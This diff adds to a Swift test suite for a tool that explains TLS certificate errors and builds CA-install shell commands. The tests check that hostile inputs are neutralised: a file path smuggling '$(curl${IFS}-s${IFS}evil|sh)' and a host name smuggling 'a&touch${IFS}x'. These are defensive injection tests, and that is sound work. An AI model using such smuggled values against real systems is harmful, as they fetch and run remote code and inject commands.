@@ -167,6 +167,9 @@ import TrustStoreGuide
         let install = try #require(explanation.fix(caFile: "/r.pem").first { $0.hasPrefix("sudo cp ") })
         #expect(install.hasPrefix("sudo cp /r.pem '/srv/x$(curl${IFS}-s${IFS}evil|sh)'/usr/local/share/ca-certificates/gateway-root.crt"), "\(install)")
         #expect(ErrorExplanation.shellWord("/etc/ssl/ca.pem") == "/etc/ssl/ca.pem" && ErrorExplanation.shellWord("/a b/it's") == "'/a b/it'\\''s'")
+        // A host that is no host name never reaches the fix's commands.
+        let hostile = try #require(ErrorExplanation.explain("curl: (60) SSL certificate problem: unable to get local issuer certificate for https://a&touch${IFS}x/"))
+        #expect(hostile.host == nil && !hostile.fix(caFile: "/r.pem").joined().contains("touch"), "\(hostile.fix(caFile: "/r.pem"))")
     }
 
     /// node's OS-store switch: the flag on Linux from 23.9 and 22.15, the variable from 24.6 and 22.19.
